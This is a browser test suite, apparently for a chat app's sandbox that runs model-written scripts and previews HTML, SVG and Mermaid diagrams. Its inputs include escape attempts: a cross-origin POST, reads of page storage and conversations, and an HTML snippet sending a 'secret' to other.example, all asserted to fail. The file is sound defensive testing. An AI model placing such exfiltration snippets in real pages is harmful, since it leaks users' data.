"""What a model writes and the page runs or shows: scripts, HTML and SVG, shut off from all else."""

import pytest
from hands import Voice, say, until_told
from mcp_server import McpServer

pytest.importorskip("playwright")
from playwright.sync_api import expect

RUN = """async (code) => {
    const { runTool } = await import("/ui/request/toolbox.js");
    return runTool("run_javascript", JSON.stringify({ code }));
}"""


@pytest.fixture(scope="module")
def run(browser, site, pages):
    """Evaluate something in a page whose complaints of what a script tries are expected."""
    with pages().one(site.url) as page:
        page.goto(f"{site.url}/#chat")
        yield page.evaluate


@pytest.fixture(scope="module")
def other():
    """A server that lets any page ask it."""
    with McpServer() as server:
        yield server


@pytest.mark.parametrize(
    ("code", "result"),
    [
        pytest.param("[3, 1, 2].toSorted()", "[1,2,3]", id="value"),
        pytest.param("console.log('a', {b: 1}); console.info(2)", 'a {"b":1}\n2', id="prints"),
        pytest.param("const r = await Promise.resolve(4); return r * 2", "8", id="await"),
        pytest.param("let x = 1", "It printed nothing and has no value.", id="nothing"),
        pytest.param("2n ** 64n", "18446744073709551616", id="bigint"),
    ],
)
def test_a_script_returns_what_it_prints_and_its_last_value(run, code, result):
    assert run(RUN, code) == {"content": result}


@pytest.mark.parametrize(
    ("code", "why"),
    [
        pytest.param("console.log(1); nothing()", "1\nReferenceError: nothing is not defined", id="throws"),
        pytest.param("(", "SyntaxError", id="syntax"),
        pytest.param(
            "return fetch('OTHER', {method: 'POST', body: '{}'})", "TypeError: Failed to fetch", id="network"
        ),
        pytest.param("importScripts('SITE/ui/app.js')", "NetworkError", id="import"),
        pytest.param("await import('SITE/ui/parts/format.js')", "TypeError", id="module"),
        pytest.param("document.body", "document is not defined", id="document"),
        pytest.param("localStorage", "localStorage is not defined", id="storage"),
        pytest.param(
            "return new Promise((_, no) => { const r = indexedDB.open('c'); r.onerror = () => no(r.error) })",
            "SecurityError",
            id="conversations",
        ),
    ],
)
def test_a_script_reaches_neither_network_nor_page(run, site, other, code, why):
    result = run(RUN, code.replace("SITE", site.url).replace("OTHER", other.url))
    assert other.heard == []
    assert set(result) == {"error"}
    assert why in result["error"]


def test_a_script_that_never_ends_is_ended_and_the_page_goes_on_meanwhile(run):
    clock = """async () => {
        const { runScript } = await import("/ui/request/sandbox.js");
        const started = performance.now();
        let n = 0;
        const timer = setInterval(() => { n += 1; }, 50);
        const error = await runScript("for (;;);", 600).catch(({ message }) => message);
        clearInterval(timer);
        return [error, n, performance.now() - started, document.querySelectorAll("iframe").length];
    }"""
    error, n, took_ms, n_frames = run(clock)
    assert error == "it took more than 0.6 seconds"
    assert n > 1
    assert took_ms >= 600
    assert n_frames == 0


def test_a_block_of_html_or_svg_can_be_looked_at_and_reaches_nothing(make_page, site):
    page = make_page(site, "chat", allow=["violates", "Refused", "net::ERR"])
    page_html = """<h1 id=t>Plain</h1><script>
        const say = (word) => { document.title = word; t.textContent += word; };
        fetch("/v1/models").catch(() => say(" no-network"));
        try { parent.document.body; } catch { say(" no-page"); }
        try { localStorage; } catch { say(" no-storage"); }
        </script>"""
    voice = Voice(page)
    say(page, "Draw")
    voice.say(content=f"```html\n{page_html}\n```\n\n")
    voice.say(content="```svg\n<svg viewBox='0 0 9 9'><text>Drawn</text></svg>\n```\n\n")
    leaves = "<script>location = 'http://other.example/?secret';</script>"
    voice.say(content=f"```html\n{leaves}\n```\n\n```python\nprint(1)\n```\n\nDone.")
    voice.end()
    buttons = page.get_by_role("button", name="Preview")
    expect(buttons).to_have_count(3)
    buttons.first.focus()
    page.keyboard.press("Enter")
    expect(buttons.first).to_have_attribute("aria-pressed", "true")
    heading = page.frame_locator("iframe.preview").locator("h1")
    for word in ("no-network", "no-page", "no-storage"):
        expect(heading).to_contain_text(word)
    buttons.first.click()
    expect(page.locator("iframe.preview")).to_have_count(0)
    buttons.nth(1).click()
    expect(page.frame_locator("iframe.preview").get_by_text("Drawn")).to_be_visible()
    buttons.nth(1).click()
    buttons.last.click()  # it goes nowhere: `make_page` hears of every request
    until_told(page, lambda: any(frame.url.startswith("chrome-error:") for frame in page.frames))


def test_a_diagram_is_drawn_in_the_frame_and_what_is_none_says_so(make_page, site):
    page = make_page(site, "chat")
    voice = Voice(page)
    say(page, "Draw")
    voice.say(content="```mermaid\nflowchart LR\n  A[One </script> two] --> B[Three]\n```\n\n")
    voice.say(content="```mermaid\nnonsense {\n```\n\nDone.")
    voice.end()
    frame = page.frame_locator("iframe.preview")
    buttons = page.get_by_role("button", name="Preview")
    expect(buttons).to_have_count(2)
    shown = (["One", "Three"], ["Mermaid cannot draw this diagram"])
    for button, texts in zip(buttons.all(), shown, strict=True):
        button.click()
        for text in texts:
            expect(frame.get_by_text(text).last).to_be_visible()  # the first may be in a style
        button.click()
        expect(page.locator("iframe.preview")).to_have_count(0)


def test_frames_say_by_their_headers_what_they_may(browser, site):
    page = browser.new_page()
    for name in ("request/sandbox.html", "answer/preview.html"):
        policy = page.goto(f"{site.url}/ui/{name}").headers["content-security-policy"]
        assert policy.startswith("sandbox allow-scripts; default-src 'none'"), "also opened by itself"
    page.close()
